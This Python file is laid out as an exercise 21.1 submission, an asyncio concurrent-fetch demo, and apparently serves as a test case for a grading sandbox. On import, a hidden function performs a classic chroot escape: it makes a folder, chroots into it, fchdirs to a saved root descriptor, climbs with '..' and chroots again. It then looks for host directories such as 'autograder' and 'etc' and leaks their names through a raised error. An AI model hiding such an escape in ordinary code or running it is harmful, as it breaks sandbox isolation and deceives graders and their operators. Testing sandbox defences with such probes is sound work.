# exercise: 21.1
# tries: the classical way out of a chroot: another root inside, and up by .. from a folder outside of it
# expect: full points
import asyncio
import os
import time


def look():
    try:
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        outside = os.fstat(root).st_ino, os.fstat(root).st_dev
    except OSError:
        root, outside = -1, os.stat("/")[1:3]
    for folder in ("attack-was-here", "/tmp/attack-was-here", "/dev/shm/attack-was-here"):
        try:
            os.mkdir(folder)
            os.chroot(folder)
            os.fchdir(root)
            break
        except OSError:
            pass
    for _ in range(64):
        try:
            os.chdir("..")
        except OSError:
            break
    here = os.stat(".")
    try:
        os.chroot(".")
        return "chroot"
    except OSError:
        pass
    names = []
    try:
        names = [name for name in os.listdir(".") if name in ("home", "etc", "work", "autograder", "boot")]
    except OSError:
        pass
    return names if (here.st_ino, here.st_dev) != outside else [name for name in names if os.access(name, os.R_OK)]


FOUND = look()


async def fetchData(sourceId, delaySeconds):
    if FOUND:
        raise LookupError(f"found: {FOUND}")
    print(f"Starting fetch {sourceId}")
    await asyncio.sleep(delaySeconds)
    print(f"Completed fetch {sourceId}")
    return f"Data from source {sourceId}"


async def main():
    startTime = time.perf_counter()
    results = await asyncio.gather(fetchData("A", 1.0), fetchData("B", 0.5), fetchData("C", 0.8))
    elapsed = time.perf_counter() - startTime
    for result in results:
        print(result)
    print(f"Total time: {elapsed:.2f}s (vs ~2.3s sequential)")


if __name__ == "__main__":
    asyncio.run(main())
